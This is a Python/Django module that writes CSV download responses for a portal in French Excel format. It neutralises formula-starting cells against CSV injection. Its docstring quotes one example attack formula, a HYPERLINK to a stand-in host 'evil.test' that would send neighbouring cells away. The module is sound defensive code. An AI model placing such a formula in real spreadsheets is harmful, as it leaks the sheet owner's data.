"""CSV files for a spreadsheet: the one response every export of the portal
writes, and the cell that cannot turn into a formula.

The files are read by French Excel first: semicolons between cells, decimal
commas, UTF-8 with a byte order mark (without it Excel reads the accents as
Windows-1252).

CSV injection (OWASP): a spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and one starting with a tab or a
carriage return can hide such a start. A purchase-order reference typed as
``=HYPERLINK("http://evil.test/?"&A1;"Click")`` would otherwise be a live
link in the reseller's sheet, sending its neighbouring cells away. Every
text cell with such a start gets a leading ``'``, which the spreadsheet
shows as text; genuine numbers (``-12,50``) are left alone, so they stay
numbers a sum can add.
"""

import csv
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

BOM = "\ufeff"
DELIMITER = ";"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number as the exports write them: -12,50, 1 290,00, +3, 87.5.
NUMBER = re.compile(r"[-+]?\d[\d \u00a0\u202f]*(?:[.,]\d+)?")


def neutralised(text: str) -> str:
    """``text`` as a cell that a spreadsheet shows and never runs."""
    if text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def cell(value) -> str:
    """Any value as the text of one cell: dates in ISO form, decimals with a
    comma, nothing for None, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, Decimal | int | float):
        return str(value).replace(".", ",")
    return neutralised(str(value))


class _Echo:
    """A file whose ``write`` hands the line back, to stream rows."""

    def write(self, value: str) -> str:
        return value


_writer = csv.writer(_Echo(), delimiter=DELIMITER)


def csv_line(values: Sequence) -> str:
    """One row of the file, its cells made safe."""
    return _writer.writerow([cell(value) for value in values])


def csv_response(
    filename: str,
    header: Sequence,
    rows: Iterable[Sequence],
    *,
    stream: bool = False,
) -> HttpResponse | StreamingHttpResponse:
    """The CSV file as a download; ``stream`` for a long list read as it is
    sent (``rows`` then should be an iterator over the database)."""

    def lines():
        yield BOM + csv_line(header)
        for row in rows:
            yield csv_line(row)

    if stream:
        response = StreamingHttpResponse(
            lines(), content_type="text/csv; charset=utf-8"
        )
    else:
        response = HttpResponse(
            "".join(lines()), content_type="text/csv; charset=utf-8"
        )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
